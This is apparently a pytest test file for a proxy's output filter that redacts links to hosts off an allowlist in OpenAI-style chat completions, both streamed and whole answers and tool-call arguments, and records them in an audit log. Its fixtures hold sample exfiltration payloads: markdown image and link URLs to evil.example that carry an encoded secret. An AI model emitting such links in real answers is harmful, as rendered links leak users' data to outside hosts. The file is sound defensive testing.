"""The unmodified `openai` package against a server whose model says what it is told to: links redacted, or passed and recorded."""

from __future__ import annotations

import asyncio
import json
import threading
from collections.abc import Iterator
from typing import Any

import openai
import pytest
from openai import AzureOpenAI

from tests.factories.audit import logged
from tests.factories.engine import Peer, chunked, engine, reply
from tests.factories.streams import change
from tests.live import Live, finish, start, wait_for

SECRET = "c2VjcmV0"
EVIL = f"https://evil.example/{SECRET}"
SAYS = f"See ![a]({EVIL}.png), https://good.example/a and [b](HTTPS://evil.example/?d={SECRET} 'b'). Bye http"
REDACTED = "See ![a](about:blank#link-removed), https://good.example/a and [b](about:blank#link-removed 'b'). Bye http"
STREAM = (b"content-type: text/event-stream\r\n",)
API_VERSION = "2024-10-21"
NAME = "output"


def event(delta: dict[str, Any], finish: str | None = None) -> bytes:
    choice = {"index": 0, "delta": delta, "finish_reason": finish}
    chunk = {"id": "c1", "object": "chat.completion.chunk", "created": 1, "model": "m", "choices": [choice]}
    return b"data: " + json.dumps(chunk).encode() + b"\n\n"


def streamed(field: str, text: str) -> bytes:
    """Return the events of a streamed answer, three characters each."""

    def delta(piece: str) -> dict[str, Any]:
        if field == "arguments":
            return {"tool_calls": [{"index": 0, "function": {"arguments": piece}}]}
        return {field: piece}

    call = {"index": 0, "id": "call_1", "type": "function", "function": {"name": "get", "arguments": ""}}
    first = (
        {"role": "assistant", "content": None, "tool_calls": [call]}
        if field == "arguments"
        else {"role": "assistant", "content": ""}
    )
    events = [event(first), *(event(delta(text[at : at + 3])) for at in range(0, len(text), 3)), event({}, "stop")]
    usage = {"id": "c1", "object": "chat.completion.chunk", "created": 1, "model": "m", "choices": [], "usage": USAGE}
    return b"".join([*events, b"data: " + json.dumps(usage).encode() + b"\n\n", b"data: [DONE]\n\n"])


USAGE = {"prompt_tokens": 1, "completion_tokens": 2, "total_tokens": 3}


def whole(text: str) -> bytes:
    message = {"role": "assistant", "content": text}
    choice = {"index": 0, "message": message, "finish_reason": "stop", "logprobs": None}
    return json.dumps(
        {"id": "c1", "object": "chat.completion", "created": 1, "model": "m", "choices": [choice], "usage": USAGE}
    ).encode()


async def talk(peer: Peer) -> None:
    """Say what the last message says, the way it asks for: `whole`, `content`, `arguments`, or `broken`."""
    while True:
        asked = json.loads((await peer.request()).body)
        way, _, text = asked["messages"][-1]["content"].partition(" ")
        if way == "whole":
            await peer.send(reply(whole(text), b"content-type: application/json"))
        elif way == "broken":
            await peer.send(chunked(event({"content": "a"}), b"data: see https://evil.example/\n\n", headers=STREAM[0]))
        else:
            stream = streamed(way, text)
            await peer.send(chunked(*(stream[at : at + 97] for at in range(0, len(stream), 97)), headers=STREAM[0]))


@pytest.fixture(scope="module")
def engine_port() -> Iterator[int]:
    """An engine in a thread of its own."""
    up, stop = threading.Event(), asyncio.Event()
    known: dict[str, Any] = {}

    async def serve() -> None:
        async with engine(talk) as running:
            known.update(port=running.port, loop=asyncio.get_running_loop())
            up.set()
            await stop.wait()

    thread = threading.Thread(target=lambda: asyncio.run(serve()), daemon=True)
    thread.start()
    assert up.wait(30)
    yield known["port"]
    known["loop"].call_soon_threadsafe(stop.set)
    thread.join(30)


@pytest.fixture(scope="module")
def server(engine_port: int, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Live]:
    settings = (
        f'[[models]]\nname = "parrot"\n[models.upstream]\nurl = "http://127.0.0.1:{engine_port}/v1"\nmodel = "m"\n'
    )
    live = start(tmp_path_factory.mktemp("output") / "data", "--workers", "2", settings=settings)
    yield live
    finish(live)


@pytest.fixture(scope="module")
def client(server: Live) -> Iterator[AzureOpenAI]:
    account = server.account_id(NAME)
    properties = {
        "customSubDomainName": NAME,
        "restrictOutboundNetworkAccess": True,
        "allowedFqdnList": ["good.example"],
        "stockade": {"controls": {"dlp": "off"}},
    }
    body = {"kind": "OpenAI", "sku": {"name": "S0"}, "location": server.location, "properties": properties}
    model = {"format": "OpenAI", "name": "parrot", "version": "1"}
    deployment = {"sku": {"name": "Standard", "capacity": 10_000}, "properties": {"model": model}}
    for path, content in ((account, body), (f"{account}/deployments/chat", deployment)):
        made = server.request("PUT", path, content)
        assert made.status_code in (200, 201), made.text
    key = server.request("POST", f"{account}/listKeys").json()["key1"]
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SSL_CERT_FILE", str(server.bundle))
        endpoint = f"https://localhost:{server.ports[0]}/{NAME}/"
        with AzureOpenAI(
            azure_endpoint=endpoint, api_version=API_VERSION, api_key=key, max_retries=0, timeout=60
        ) as made_client:
            yield made_client


@pytest.fixture(params=["enforce", "report", "off"])
def mode(request: pytest.FixtureRequest, server: Live, client: AzureOpenAI) -> str:
    switch(server, request.param)
    return str(request.param)


def switch(server: Live, mode: str) -> None:
    change(server, NAME, stockade={"controls": {"dlp": "off", "output": mode}})


def stream(client: AzureOpenAI, way: str, text: str) -> list[Any]:
    messages: Any = [{"role": "user", "content": f"{way} {text}"}]
    return list(client.chat.completions.create(model="chat", messages=messages, stream=True))


def said(client: AzureOpenAI, text: str = SAYS) -> str:
    return "".join(chunk.choices[0].delta.content or "" for chunk in stream(client, "content", text) if chunk.choices)


def test_streamed_answer_by_mode(mode: str, client: AzureOpenAI) -> None:
    chunks = stream(client, "content", SAYS)
    text = "".join(chunk.choices[0].delta.content or "" for chunk in chunks if chunk.choices)
    assert text == (REDACTED if mode == "enforce" else SAYS)
    assert {chunk.id for chunk in chunks} == {"c1"}
    finished = [chunk.choices[0].finish_reason for chunk in chunks if chunk.choices]
    assert finished == [None] * (len(finished) - 1) + ["stop"]
    assert chunks[-1].usage.total_tokens == 3


def test_stream_is_byte_for_byte_the_models_unless_redacted(mode: str, client: AzureOpenAI) -> None:
    create = client.chat.completions.with_streaming_response.create
    with create(model="chat", messages=[{"role": "user", "content": f"content {SAYS}"}], stream=True) as response:
        received = b"".join(response.iter_bytes())
    assert (received == streamed("content", SAYS)) == (mode != "enforce")
    assert received.endswith(b"data: [DONE]\n\n")
    events = [line for line in received.split(b"\n\n") if line]
    assert all(json.loads(one[6:]) for one in events[:-1])


def test_tool_call_stays_json(mode: str, client: AzureOpenAI) -> None:
    arguments = json.dumps({"url": EVIL, "note": f"see {EVIL}\nnow"})
    with client.chat.completions.stream(
        model="chat", messages=[{"role": "user", "content": f"arguments {arguments}"}]
    ) as running:
        for _ in running:
            pass
        [call] = running.get_final_completion().choices[0].message.tool_calls or []
    assert (call.id, call.function.name) == ("call_1", "get")
    read = json.loads(call.function.arguments)
    assert (SECRET in json.dumps(read)) == (mode != "enforce")
    if mode == "enforce":
        assert read["url"] == "about:blank#link-removed"


def test_whole_answer_by_mode(mode: str, client: AzureOpenAI) -> None:
    answer = client.chat.completions.create(model="chat", messages=[{"role": "user", "content": f"whole {SAYS}"}])
    assert answer.choices[0].message.content == (REDACTED if mode == "enforce" else SAYS)
    assert answer.choices[0].finish_reason == "stop"
    assert answer.usage is not None
    assert answer.usage.total_tokens == 3


def test_switching_is_in_force_for_the_next_request(server: Live, client: AzureOpenAI) -> None:
    for mode in ("enforce", "off", "enforce", "report"):
        switch(server, mode)
        assert said(client) == (REDACTED if mode == "enforce" else SAYS)
    switch(server, "enforce")
    change(server, NAME, allowedFqdnList=["good.example", "evil.example"])
    assert said(client) == SAYS
    change(server, NAME, allowedFqdnList=["good.example"])
    assert said(client) == REDACTED


def test_stream_that_cannot_be_checked_ends_with_an_error(server: Live, client: AzureOpenAI) -> None:
    switch(server, "enforce")
    with pytest.raises(openai.APIError, match="could not be checked"):
        stream(client, "broken", "x")


def test_record_names_host_and_place_and_no_uri(server: Live, client: AzureOpenAI) -> None:
    evil = server.stockade("audit", "hash", "evil.example").strip()
    for mode, action in (("report", "passed"), ("enforce", "redacted")):
        switch(server, mode)
        agent = f"looks-{mode}"
        messages: Any = [{"role": "user", "content": f"content {SAYS}"}]
        list(
            client.chat.completions.create(
                model="chat", messages=messages, stream=True, extra_headers={"user-agent": agent}
            )
        )
        written = wait_for(
            lambda agent=agent: [one for one in logged(server.data_dir) if one.get("client") == agent],
            "the request is recorded",
        )
        assert written[0]["decision"] == "allow"
        [found] = written[0]["reported"]
        assert found == {
            "rule": "output",
            "reason": "OutboundDenied",
            "host": evil,
            "path": "choices[0].delta.content",
            "why": "host",
            "count": "2",
            "action": action,
        }
    assert SECRET not in json.dumps(logged(server.data_dir))
